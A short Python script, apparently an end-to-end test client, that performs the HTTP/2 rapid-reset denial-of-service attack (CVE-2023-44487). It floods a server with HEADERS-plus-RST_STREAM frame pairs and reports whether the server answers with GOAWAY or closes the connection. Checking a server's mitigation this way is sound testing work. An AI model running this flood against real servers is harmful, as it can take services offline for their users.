#!/usr/bin/env python3
"""Rapid-reset client (CVE-2023-44487) for the e2e tests: opens one h2c
connection, then sends N x (HEADERS for a new GET + RST_STREAM CANCEL) as
fast as the socket takes them. Prints "goaway=<error code or none>
closed=<yes|no> streams_sent=<n>"."""
import socket
import struct
import sys

host, port, authority, count = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), int(sys.argv[4])


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
# :method GET, :scheme http, :path /, :authority (literal, indexed name 1)
block = b"\x82\x86\x84" + b"\x41" + bytes([len(authority)]) + authority
s = socket.create_connection((host, port))
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
sent = 0
closed = False
try:
    batch = []
    for i in range(count):
        sid = 2 * i + 1
        batch.append(frame(HEADERS, 0x5, sid, block) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
        if len(batch) == 100:
            s.sendall(b"".join(batch))
            sent += len(batch)
            batch = []
    if batch:
        s.sendall(b"".join(batch))
        sent += len(batch)
except OSError:
    closed = True
goaway = "none"
s.settimeout(5)
buf = b""
try:
    while True:
        d = s.recv(65536)
        if not d:
            closed = True
            break
        buf += d
except OSError as e:
    closed = closed or not isinstance(e, socket.timeout)
while len(buf) >= 9:
    n = int.from_bytes(buf[0:3], "big")
    if buf[3] == GOAWAY and len(buf) >= 9 + 8:
        goaway = str(int.from_bytes(buf[9 + 4:9 + 8], "big"))
    buf = buf[9 + n:]
print("goaway=%s closed=%s streams_sent=%d" % (goaway, "yes" if closed else "no", sent))
